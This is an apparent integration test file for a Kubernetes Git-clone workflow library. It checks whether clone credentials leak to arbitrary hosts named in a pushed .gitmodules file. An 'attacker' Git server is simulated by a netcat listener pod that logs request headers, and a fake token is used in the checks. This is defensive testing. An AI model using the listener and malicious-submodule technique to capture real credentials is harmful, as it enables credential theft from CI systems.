import { Chart } from 'cdk8s';
import { k8s } from 'cdk8s-plus-27';
import type { GitCloneTemplateProps } from '../../../lib';
import { DagTemplate, GitCloneTemplate, Workflow, acknowledge } from '../../../lib';
import { synthChart, workflowIn } from '../../support';
import { applyChart } from '../cluster/apply';
import { deleteBranch, pushSubmodule } from '../cluster/repository';
import type { Run } from '../cluster/run';
import { useRun } from '../cluster/run';
import { submit, watchWorkflow } from '../cluster/submit';
import { until } from '../cluster/wait';

const DEADLINE_SECONDS = 240;
const READY_SECONDS = 120;

const test = useRun();

const TOKEN = 'token-of-the-repository';
const AUTHORIZATION = `Authorization: Basic ${Buffer.from(`ci:${TOKEN}`).toString('base64')}`;

/** The Git server of the attacker, which prints all requests. */
const LISTENER = `
  while :; do
    printf 'HTTP/1.1 404 Not Found\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n' | nc -l -p 8080
  done
`;

/** Starts the listener, and returns its address. */
async function listener({ app, client, namespace, settings }: Run, name: string): Promise<string> {
  const chart = new Chart(app, name, { namespace });
  const container = { name: 'main', image: settings.images.busybox, command: ['sh', '-c', LISTENER] };
  new k8s.KubePod(chart, 'pod', {
    metadata: { name },
    spec: { containers: [container], terminationGracePeriodSeconds: 0 },
  });
  await applyChart(client, chart);
  return until('the listener', READY_SECONDS, async () => {
    const { status } = await client.core.readNamespacedPod({ name, namespace });
    return status?.phase === 'Running' ? status.podIP : undefined;
  });
}

/** Clones a branch whose `.gitmodules` names the listener, and returns the requests that it received. */
async function cloneWith(
  run: Run,
  name: string,
  props: Pick<GitCloneTemplateProps, 'credentials' | 'submodules'>,
): Promise<{ readonly phase: string; readonly requests: string }> {
  const { app, client, namespace, settings, setup } = run;
  const branch = `${namespace}-${name}`;
  const address = await listener(run, `${name}-listener`);
  pushSubmodule(settings.git, branch, `http://${address}:8080/sub.git`);
  const chart = new Chart(app, name, { namespace });
  const stringData = { username: 'ci', token: TOKEN };
  new k8s.KubeSecret(chart, 'login', { metadata: { name: `${name}-login` }, stringData });
  const clone = new GitCloneTemplate(chart, 'clone', {
    metadata: { name: `${name}-clone` },
    serviceAccount: setup.rbac.serviceAccount,
    ...props,
  });
  acknowledge(clone, 'unknown-submodule-hosts', 'this test shows who receives the credentials');
  await applyChart(client, chart);
  const submission = new Chart(app, `${name}-run`, { namespace });
  const workflow = new Workflow(submission, 'workflow', {
    metadata: { name },
    serviceAccount: setup.rbac.serviceAccount,
  });
  const main = new DagTemplate(workflow, 'main');
  main.task('clone', clone.checkout, { gitUrl: settings.git.url, revision: branch });
  workflow.setEntrypoint(main);
  await submit(client, workflowIn(synthChart(submission)));
  const { phase } = await watchWorkflow(client, namespace, name, DEADLINE_SECONDS);
  deleteBranch(settings.git, branch);
  const requests = await client.core.readNamespacedPodLog({ name: `${name}-listener`, namespace });
  return { phase, requests };
}

/** Credentials in a Secret of this test. */
function loginOf(name: string): GitCloneTemplateProps['credentials'] {
  return { token: { secret: `${name}-login`, key: 'token' } };
}

test('submodules with credentials send these to any host that a pushed .gitmodules names', async (run) => {
  const { requests } = await cloneWith(run, 'asked-for', {
    credentials: loginOf('asked-for'),
    submodules: { credentials: 'sent to every host in .gitmodules' },
  });
  expect(requests).toContain('GET /sub.git/info/refs?service=git-upload-pack');
  expect(requests).toContain(AUTHORIZATION);
});

test('by default, a clone with credentials asks no other host', async (run) => {
  const { phase, requests } = await cloneWith(run, 'default', { credentials: loginOf('default') });
  expect({ phase, requests }).toEqual({ phase: 'Succeeded', requests: '' });
});

test('a clone without credentials fetches submodules, and has none to send', async (run) => {
  const { requests } = await cloneWith(run, 'anonymous', {});
  expect(requests).toContain('GET /sub.git/info/refs?service=git-upload-pack');
  expect(requests).not.toContain('Authorization');
});
